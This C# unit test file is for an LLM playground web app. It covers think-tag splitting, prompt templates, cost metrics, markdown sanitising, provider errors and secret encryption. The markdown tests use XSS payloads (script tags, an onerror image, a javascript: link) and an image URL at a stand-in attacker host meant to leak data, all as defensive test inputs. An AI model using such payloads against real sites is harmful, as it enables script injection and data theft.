using ModelHub.Web.Features.Common;
using ModelHub.Web.Features.Playground;
using ModelHub.Web.Features.Playground.Prompts;
using ModelHub.Web.Features.Playground.Providers;
using ModelHub.Web.Features.Playground.Runs;

namespace ModelHub.UnitTests;

public sealed class ThinkTagSplitterTests
{
    [Fact]
    public void TagsSplitAcrossChunksStillSeparateReasoningFromTheAnswer()
    {
        var splitter = new ThinkTagSplitter();
        var answer = "";
        var reasoning = "";
        foreach (var chunk in new[] { "<th", "ink>Weigh", "ing.</thi", "nk>The answer", " is 42.<", "b>" })
        {
            var (a, r) = splitter.Push(chunk);
            answer += a;
            reasoning += r;
        }

        var (restAnswer, restReasoning) = splitter.Flush();
        Assert.Equal("Weighing.", reasoning + restReasoning);
        Assert.Equal("The answer is 42.<b>", answer + restAnswer);
    }

    [Fact]
    public void TextWithoutTagsPassesThroughAtOnceExceptAPossibleTagStart()
    {
        var splitter = new ThinkTagSplitter();

        Assert.Equal(("Hello ", ""), splitter.Push("Hello <"));
        Assert.Equal(("<world", ""), splitter.Push("world"));
    }

    [Fact]
    public void AnUnclosedThinkBlockIsAllReasoning()
    {
        var splitter = new ThinkTagSplitter();

        var (answer, reasoning) = splitter.Push("<think>still thinking when cut");
        var rest = splitter.Flush();

        Assert.Equal("", answer + rest.Answer);
        Assert.Equal("still thinking when cut", reasoning + rest.Reasoning);
    }
}

public sealed class PromptTemplateTests
{
    [Fact]
    public void VariablesAreListedOnceInOrderOfFirstUse()
    {
        Assert.Equal(["tone", "topic"], PromptTemplate.Variables("Write in a {{tone}} tone", "about {{ topic }} in a {{tone}} way"));
    }

    [Fact]
    public void FillReplacesEveryPlaceholder()
    {
        Assert.Equal("About cats, cats.", PromptTemplate.Fill("About {{topic}}, {{ topic }}.", new Dictionary<string, string?> { ["topic"] = "cats" }));
    }

    [Fact]
    public void FillRefusesEmptyVariablesByName()
    {
        var ex = Assert.Throws<InvalidInputException>(() => PromptTemplate.Fill("{{a}} and {{b}}", new Dictionary<string, string?> { ["a"] = "x", ["b"] = "" }));

        Assert.Equal("Fill in {{b}} before running.", ex.Message);
    }
}

public sealed class RunMetricsTests
{
    [Fact]
    public void CostIsTokensTimesPricePerMillion()
    {
        Assert.Equal(0.00195m, RunMetrics.Cost(1000, 200, 1.5m, 2.25m));
        Assert.Null(RunMetrics.Cost(1000, 200, null, null));
        Assert.Equal(0m, RunMetrics.Cost(1000, 200, 0, 0));
    }

    [Fact]
    public void SpeedCountsOnlyTheTimeAfterTheFirstToken()
    {
        Assert.Equal(100, RunMetrics.TokensPerSecond(100, 500, 1500));
        Assert.Null(RunMetrics.TokensPerSecond(null, 500, 1500));
    }

    [Fact]
    public void ARunTakesTheWorstOutcomeOfItsTargets()
    {
        Assert.Equal(RunStatus.Running, RunMetrics.Aggregate([RunStatus.Succeeded, RunStatus.Running]));
        Assert.Equal(RunStatus.Failed, RunMetrics.Aggregate([RunStatus.Succeeded, RunStatus.Failed, RunStatus.Cancelled]));
        Assert.Equal(RunStatus.Cancelled, RunMetrics.Aggregate([RunStatus.Succeeded, RunStatus.Cancelled]));
        Assert.Equal(RunStatus.Succeeded, RunMetrics.Aggregate([RunStatus.Succeeded, RunStatus.Succeeded]));
    }

    [Theory]
    [InlineData(0.000012, "$0.000012")]
    [InlineData(1.5, "$1.50")]
    [InlineData(1234.5, "$1,234.50")]
    public void MoneyIsWrittenWithTheDigitsThatMatter(double amount, string expected) =>
        Assert.Equal(expected, PlaygroundFormat.Usd((decimal)amount));
}

public sealed class SafeMarkdownTests
{
    [Fact]
    public void RawHtmlIsShownAsText()
    {
        var html = SafeMarkdown.ToHtml("Hi <script>alert(1)</script> <img src=x onerror=alert(1)>");

        Assert.DoesNotContain("<script", html);
        Assert.DoesNotContain("<img", html);
        Assert.Contains("&lt;script&gt;", html);
    }

    [Fact]
    public void ScriptLinksLoseTheirTarget()
    {
        var html = SafeMarkdown.ToHtml("[click](javascript:alert(1)) and [ok](https://example.com)");

        Assert.DoesNotContain("javascript:", html);
        Assert.Contains("href=\"https://example.com\"", html);
        Assert.Contains("rel=\"nofollow noopener noreferrer\"", html);
    }

    [Fact]
    public void ImagesBecomeLinksSoNothingIsFetchedOnRender()
    {
        var html = SafeMarkdown.ToHtml("![secret](https://attacker.example/leak?d=123)");

        Assert.DoesNotContain("<img", html);
        Assert.Contains("href=\"https://attacker.example/leak?d=123\"", html);
    }

    [Fact]
    public void CodeAndTablesRender()
    {
        var html = SafeMarkdown.ToHtml("```csharp\nvar x = 1;\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |");

        Assert.Contains("<pre><code class=\"language-csharp\">", html);
        Assert.Contains("<table>", html);
    }
}

public sealed class ProviderErrorTests
{
    [Theory]
    [InlineData("{\"error\":{\"message\":\"Incorrect API key\",\"type\":\"invalid_request_error\"}}", "Incorrect API key")]
    [InlineData("{\"type\":\"error\",\"error\":{\"type\":\"overloaded_error\",\"message\":\"Overloaded\"}}", "Overloaded")]
    [InlineData("{\"title\":\"Unauthenticated\",\"detail\":\"You did not pass a valid token\",\"status\":401}", "You did not pass a valid token")]
    [InlineData("<html>Bad gateway</html>", "<html>Bad gateway</html>")]
    [InlineData("", null)]
    public void TheProvidersOwnMessageIsFoundInEachErrorShape(string body, string? expected) =>
        Assert.Equal(expected, ProviderErrors.ProviderMessage(body));

    [Fact]
    public void AVersionSegmentInTheBaseUrlIsNotRepeated()
    {
        Assert.Equal("https://api.anthropic.com/v1/messages", ProviderHttp.Combine(new Uri("https://api.anthropic.com/v1/"), "v1/messages").AbsoluteUri);
        Assert.Equal("https://api.anthropic.com/v1/messages", ProviderHttp.Combine(new Uri("https://api.anthropic.com"), "v1/messages").AbsoluteUri);
        Assert.Equal("https://openrouter.ai/api/v1/chat/completions", ProviderHttp.Combine(new Uri("https://openrouter.ai/api/v1"), "chat/completions").AbsoluteUri);
    }
}

public sealed class ProtectedStringConverterTests
{
    private readonly ModelHub.Web.Data.ProtectedStringConverter converter =
        new(new Microsoft.AspNetCore.DataProtection.EphemeralDataProtectionProvider().CreateProtector("tests"));

    [Fact]
    public void SecretsAreStoredEncryptedWithThePrefixAndReadBack()
    {
        var stored = (string)converter.ConvertToProvider("sk-live-123456789")!;

        Assert.StartsWith(ModelHub.Web.Data.ProtectedStringConverter.Prefix, stored);
        Assert.DoesNotContain("sk-live-123456789", stored);
        Assert.Equal("sk-live-123456789", converter.ConvertFromProvider(stored));
    }

    [Fact]
    public void AnAlreadyProtectedValueIsNotProtectedTwice()
    {
        var stored = (string)converter.ConvertToProvider("sk-live-123456789")!;

        Assert.Equal(stored, converter.ConvertToProvider(stored));
    }
}
